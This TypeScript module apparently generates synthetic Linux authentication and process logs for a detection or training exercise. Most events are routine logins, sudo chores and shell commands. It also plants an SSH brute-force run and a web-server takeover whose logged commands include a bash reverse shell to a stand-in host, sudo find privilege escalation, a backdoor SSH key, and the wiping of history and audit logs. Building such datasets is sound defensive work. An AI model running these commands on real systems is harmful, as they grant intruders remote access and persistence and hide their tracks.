import { linuxHosts } from "./company.ts";
import { at, someTimes, toIso, type Timed } from "./day.ts";
import type { Random } from "./random.ts";

const people = ["deploy", "lena", "jonas", "noor"] as const;
const guesser = "203.0.113.77";
const intruder = "203.0.113.80";

export function linuxDay(random: Random): Timed[] {
  return [
    ...someTimes(random, 150).map((time) => signIn(random, time)),
    ...someTimes(random, 14).map((time) => mistype(random, time)),
    ...someTimes(random, 90).map((time) =>
      sudo(time, random.pick(linuxHosts), random.pick(people), random.pick(chores)),
    ),
    ...someTimes(random, 190).map((time) =>
      start(time, random.pick(linuxHosts), random.pick(people), random.pick(commands)),
    ),
    ...passwordsGuessed(random),
    ...webServerTaken(),
  ];
}

const chores = [
  "/bin/systemctl restart nginx",
  "/bin/systemctl status auditd",
  "/usr/bin/apt-get update",
  "/usr/bin/journalctl -u nginx -n 50",
  "/usr/bin/tail -f /var/log/nginx/error.log",
  "/usr/bin/docker ps",
];

const commands = [
  "ls -la /srv/shop",
  "git pull --ff-only",
  "node /srv/shop/server.js",
  "curl -sSf http://127.0.0.1:8080/health",
  "tar czf /srv/backup/shop.tar.gz /srv/shop",
  "psql -c select 1",
  "crontab -l",
  "python3 /srv/shop/tools/stock.py",
  "rm /srv/shop/cache/old.tmp",
];

interface Login {
  readonly host: string;
  readonly user: string;
  readonly address: string;
  readonly outcome: "success" | "failure";
  readonly method: "password" | "publickey";
}

function login(time: number, of: Login): Timed {
  return {
    time,
    event: {
      "@timestamp": toIso(time),
      host: { name: of.host, os: { type: "linux" } },
      process: { name: "sshd" },
      event: {
        category: ["authentication"],
        type: [of.outcome === "success" ? "start" : "info"],
        action: "ssh_login",
        outcome: of.outcome,
      },
      source: { ip: of.address },
      user: { name: of.user },
      system: { auth: { ssh: { method: of.method, event: of.outcome === "success" ? "Accepted" : "Failed" } } },
    },
  };
}

function signIn(random: Random, time: number): Timed {
  const address = `192.0.2.${random.between(21, 28)}`;
  return login(time, {
    host: random.pick(linuxHosts),
    user: random.pick(people),
    address,
    outcome: "success",
    method: "publickey",
  });
}

function mistype(random: Random, time: number): Timed {
  const address = `192.0.2.${random.between(21, 28)}`;
  return login(time, {
    host: random.pick(linuxHosts),
    user: random.pick(people),
    address,
    outcome: "failure",
    method: "password",
  });
}

function sudo(time: number, host: string, user: string, command: string): Timed {
  return {
    time,
    event: {
      "@timestamp": toIso(time),
      host: { name: host, os: { type: "linux" } },
      process: { name: "sudo" },
      event: { category: ["process"], outcome: "success" },
      user: { name: user, effective: { name: "root" } },
      system: { auth: { sudo: { command, user: "root", pwd: `/home/${user}`, tty: "pts/0" } } },
    },
  };
}

function start(time: number, host: string, user: string, commandLine: string): Timed {
  const name = (commandLine.split(" ")[0] ?? "").split("/").at(-1) ?? "";
  return {
    time,
    event: {
      "@timestamp": toIso(time),
      host: { name: host, os: { type: "linux" } },
      event: { category: ["process"], type: ["start"], action: "exec" },
      user: { name: user },
      process: { name, command_line: commandLine, parent: { name: user === "www-data" ? "php-fpm" : "bash" } },
    },
  };
}

/** First one account, then many, then the one that gives in. */
function passwordsGuessed(random: Random): Timed[] {
  const target = { host: "build-01", address: guesser, method: "password" } as const;
  const names = ["admin", "test", "oracle", "ubuntu", "git", "postgres", "jenkins", "backup", "support", "guest"];
  const root = Array.from({ length: 24 }, (_, index) =>
    login(at("07:41:00") + index * 7000 + random.between(0, 900), { ...target, user: "root", outcome: "failure" }),
  );
  const others = names.map((user, index) =>
    login(at("07:52:00") + index * 9000, { ...target, user, outcome: "failure" }),
  );
  return [...root, ...others, login(at("07:58:12"), { ...target, user: "root", outcome: "success" })];
}

/** What the web shell of the web log does on its host. */
function webServerTaken(): Timed[] {
  const run = (clock: string, user: string, command: string): Timed => start(at(clock), "web-01", user, command);
  return [
    run("08:42:18", "www-data", "sh -c id"),
    run("08:43:02", "www-data", `bash -c bash -i >& /dev/tcp/${intruder}/4444 0>&1`),
    sudo(at("08:47:30"), "web-01", "www-data", "/usr/bin/find /srv -exec /bin/sh ;"),
    run("08:48:05", "root", "ln -sf /dev/null /root/.bash_history"),
    run("08:49:41", "root", "sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample >> /root/.ssh/authorized_keys"),
    run("08:53:10", "root", "systemctl stop auditd"),
    run("08:53:25", "root", "truncate -s 0 /var/log/auth.log"),
  ];
}
